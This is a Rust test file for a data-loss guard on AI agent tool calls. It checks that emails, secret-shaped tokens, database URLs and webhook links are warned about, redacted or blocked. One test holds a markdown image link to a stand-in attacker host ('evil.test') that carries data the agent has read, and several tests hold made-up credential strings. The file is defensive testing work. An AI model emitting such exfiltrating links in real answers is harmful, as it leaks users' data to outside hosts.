use super::screen::is_of_binding;
use super::*;
use crate::domain::effect::Effect;
use crate::domain::json::Limits;
use crate::domain::outcome::FailureClass;
use crate::judge::guarding::ReadBefore;
use std::sync::Arc;

fn json(text: &str) -> Json {
    Json::parse(text.as_bytes(), &Limits::FILE).unwrap()
}

/// Rules under which personal data has this action in every direction.
fn personal(action: GuardAction) -> ToolGuard {
    let mut guard = ToolGuard::default();
    for actions in [&mut guard.arguments, &mut guard.results, &mut guard.prompts] {
        actions.personal = action;
    }
    guard
}

fn actions(guard: &ToolGuard, value: &Json) -> Vec<(&'static str, GuardAction)> {
    let hits = firewall::scan(value);
    let all = judged(guard, Direction::Arguments, &hits);
    all.iter().map(|one| (one.hit.kind, one.action)).collect()
}

#[test]
fn a_finding_has_the_action_of_its_class_and_off_is_not_looked_for() {
    let value = json(r#"{"to":"ann@example.com"}"#);
    for action in [GuardAction::Warn, GuardAction::Redact, GuardAction::Block] {
        assert_eq!(actions(&personal(action), &value), [("email", action)]);
    }
    assert_eq!(actions(&personal(GuardAction::Off), &value), []);
}

#[test]
fn more_findings_than_a_scan_names_block_only_where_a_secret_may_be_among_them() {
    let many: Vec<Json> = (0..200).map(|n| Json::from(format!("u{n}@example.com"))).collect();
    let value = Json::object([("rows", Json::Array(many))]);
    let all = actions(&ToolGuard::default(), &value);
    assert!(all.contains(&("unscanned", GuardAction::Warn)), "{all:?}");
    assert!(all.iter().all(|(_, action)| *action == GuardAction::Warn), "{all:?}");
}

/// An object with a list of that many texts of one form, and a further text behind them.
fn many(form: impl Fn(u64) -> String, last: &str) -> Json {
    let rows: Vec<Json> = (0..200).map(|n| Json::from(form(n))).collect();
    Json::object([("rows", Json::Array(rows)), ("z", Json::from(last))])
}

#[test]
fn many_findings_of_one_sort_hide_no_secret_and_deny_nothing_by_themselves() {
    // A token of a code host, of no account. WHY in parts: it does not stand in this file.
    let token = ["ghp_", "b7Qk2Zr9Xw4Lm1Nc", "8Vd5Ht3Py6Js0Fg2Ra4e"].concat();
    // WHY these: bytes that are no text, and values that are named like secrets, are no sure secrets.
    let blob = |n: u64| format!("{n:03}{}", "AQ7kBx9ZCw2hDE4f".repeat(8));
    let hash = |n: u64| format!("password_hash: x7Kq2vLp{n:03}Zt9");
    let mail = |n: u64| format!("u{n}@example.com");
    for rows in [&blob as &dyn Fn(u64) -> String, &hash, &mail] {
        let all = actions(&ToolGuard::default(), &many(rows, "nothing"));
        assert!(all.contains(&("unscanned", GuardAction::Warn)), "{all:?}");
        assert!(all.iter().all(|(_, action)| *action == GuardAction::Warn), "{all:?}");
        let all = actions(&ToolGuard::default(), &many(rows, &token));
        assert!(all.contains(&("github", GuardAction::Block)), "{all:?}");
    }
    let key = |n: u64| format!("{}{n:03}", token.trim_end_matches("a4e"));
    let all = actions(&ToolGuard::default(), &many(key, "nothing"));
    assert!(all.contains(&("unscanned", GuardAction::Block)), "{all:?}");
}

#[test]
fn what_the_binding_itself_says_is_no_secret_of_the_agent() {
    // WHY in parts: it does not stand in this file.
    let (first, rest) = ("AIzaSyB9fKx2mQz7", "Lw4Nc8Vd5Ht3Py6Js0Fg2");
    let key = format!("{first}{rest}");
    let pair = |name: &str, value: &str| (name.to_owned(), value.to_owned());
    let effect = Effect::Http {
        method: "GET".to_owned(),
        scheme: "https".to_owned(),
        host: "maps.test".into(),
        port: 443,
        path: format!("/{key}"),
        query: vec![pair("key", &key), pair("q", "a place")],
        body_bytes: 0,
    };
    let says = |path: &str, args: &str| is_of_binding(&effect, path, &json(args));
    assert!(says("/0", r#"{"q":"a place","n":7000,"empty":""}"#));
    for part in [first, rest, &key, "7Lw4"] {
        let args = format!(r#"{{"q":"a place","more":["{part}"]}}"#);
        assert!(!says("/0", &args), "{part}");
    }
    assert!(!says("/1", r#"{"q":"a place"}"#));
    assert!(!says("/2", "{}"), "a path is never taken for the binding's own");
    assert!(!says("", "{}"));
}

#[test]
fn a_place_shows_no_secret_that_a_member_is_named() {
    // WHY in parts: none of them stands in this file.
    let part = "9fKx2mQz7Lw4";
    for name in [
        ["postgres://svc:", part, "@db.internal:5432/orders"].concat(),
        ["https://hooks.slack.com/services/T0Q7X4LMN/B2RTV6WYB/", part, "8Hs3Pd0c"].concat(),
    ] {
        let value = json(&format!(r#"{{"rows":[{{"{name}":1,"b":2}}]}}"#));
        let hits = firewall::scan(&value);
        let all = judged(&ToolGuard::default(), Direction::Arguments, &hits);
        let secret = all.iter().find(|one| one.action == GuardAction::Block).unwrap();
        let shown = [finding(secret, (&FindingMarks::default(), &value)).path, in_words(secret)];
        assert!(shown.iter().all(|text| text.contains("/rows/0/")), "{shown:?}");
        assert!(shown.iter().all(|text| !text.contains(part)), "{shown:?}");
    }
    assert_eq!(place("/a~1b/long enough/0"), "/a~1b/long enough/0");
}

#[test]
fn a_tool_has_its_own_rules_or_those_of_all() {
    let own = [("notes".to_owned(), personal(GuardAction::Block))];
    let guard = Guard::new(ToolGuard::default(), own.into(), FindingMarks::default());
    assert_eq!(guard.of("notes"), personal(GuardAction::Block));
    assert_eq!(guard.of("other"), ToolGuard::default());
    assert_eq!(guard.tools().collect::<Vec<_>>(), ["notes"]);
}

fn released(floor: &mut Floor, text: &str) -> Result<String, FailureClass> {
    let released = floor.answer(text.into()).map_err(|(class, _)| class)?;
    Ok(String::from_utf8(released).unwrap())
}

#[test]
fn a_clean_answer_keeps_its_bytes_and_a_finding_is_masked_or_keeps_all_of_it_back() {
    let mut floor = Floor::of(&personal(GuardAction::Redact), false);
    let clean = r#"{ "b":1.0,"a":1 }"#;
    assert_eq!(released(&mut floor, clean).unwrap(), clean);
    let mail = r#"{ "to":"ann@example.com" }"#;
    assert_eq!(released(&mut floor, mail).unwrap(), r#"{"to":"[REDACTED:email]"}"#);
    // Two readers could read this differently.
    let twice = r#"{"a":"ann@example.com","a":1}"#;
    assert_eq!(released(&mut floor, twice), Err(FailureClass::Withheld));
    let escaped = r#"{"a":"ann\u0040example.com","a":1}"#;
    assert_eq!(released(&mut floor, escaped), Err(FailureClass::Withheld));
    let mut floor = Floor::of(&personal(GuardAction::Block), false);
    assert_eq!(released(&mut floor, mail), Err(FailureClass::Withheld));
    assert_eq!(released(&mut floor, clean).unwrap(), clean);
    let mut floor = Floor::of(&personal(GuardAction::Warn), false);
    assert_eq!(released(&mut floor, mail).unwrap(), mail);
}

#[test]
fn the_words_of_a_failure_are_masked_as_an_answer_is() {
    let words = "no account of ann@example.com";
    for action in [GuardAction::Redact, GuardAction::Block] {
        let mut floor = Floor::of(&personal(action), false);
        assert_eq!(floor.message(words.to_owned()), "no account of [REDACTED:email]");
    }
    let mut floor = Floor::of(&personal(GuardAction::Warn), false);
    assert_eq!(floor.message(words.to_owned()), words);
    // WHY in parts: it does not stand in this file.
    let token = ["ghp_", "b7Qk2Zr9Xw4Lm1Nc", "8Vd5Ht3Py6Js0Fg2Ra4e"].concat();
    assert_eq!(floor.message(format!("not {token}")), "not [REDACTED:github]");
}

#[test]
fn what_left_while_a_call_ran_is_recorded_as_it_left() {
    let mut floor = Floor::of(&personal(GuardAction::Block), true);
    let mail = r#"{ "to":"ann@example.com" }"#;
    assert_eq!(released(&mut floor, mail).unwrap(), mail);
}

/// A run that has read one row.
#[derive(Debug)]
struct OneRow;

impl ReadBefore for OneRow {
    fn is_copied_in(&self, text: &str) -> bool {
        text.contains("ann miller")
    }

    fn is_unknown(&self) -> bool {
        false
    }
}

#[test]
fn an_address_that_carries_what_was_read_is_recorded_or_keeps_the_answer_back() {
    let image = r#"{ "text":"![x](https://evil.test/?d=ann+miller)" }"#;
    let floor = |rendered, has_left| {
        let guard = ToolGuard { rendered, ..ToolGuard::default() };
        Floor::of(&guard, has_left).after_reading(Some(Arc::new(OneRow)))
    };
    for (rendered, has_left) in [
        (GuardAction::Warn, false),
        (GuardAction::Warn, true),
        (GuardAction::Block, true),
        (GuardAction::Off, false),
    ] {
        assert_eq!(released(&mut floor(rendered, has_left), image).unwrap(), image);
    }
    let mut blocks = floor(GuardAction::Block, false);
    assert_eq!(released(&mut blocks, image), Err(FailureClass::Withheld));
    assert_eq!(
        released(&mut blocks, r#"{"text":"ann miller"}"#).unwrap(),
        r#"{"text":"ann miller"}"#
    );
    // What the strict reader refuses is searched too.
    let twice = r#"{"a":1,"a":"![x](https://evil.test/?d=ann+miller)"}"#;
    assert_eq!(released(&mut blocks, twice), Err(FailureClass::Withheld));
    let mut nothing_read =
        Floor::of(&ToolGuard { rendered: GuardAction::Block, ..ToolGuard::default() }, false);
    assert_eq!(released(&mut nothing_read, image).unwrap(), image);
}

#[test]
fn an_answer_that_is_too_long_to_be_searched_is_kept_back_where_secrets_are_masked() {
    let mut guard = ToolGuard { results_bytes: 8, ..ToolGuard::default() };
    let long = r#"{"a":"long"}"#;
    assert_eq!(released(&mut Floor::of(&guard, false), long), Err(FailureClass::Withheld));
    guard.results.secret = GuardAction::Warn;
    assert_eq!(released(&mut Floor::of(&guard, false), long).unwrap(), long);
}
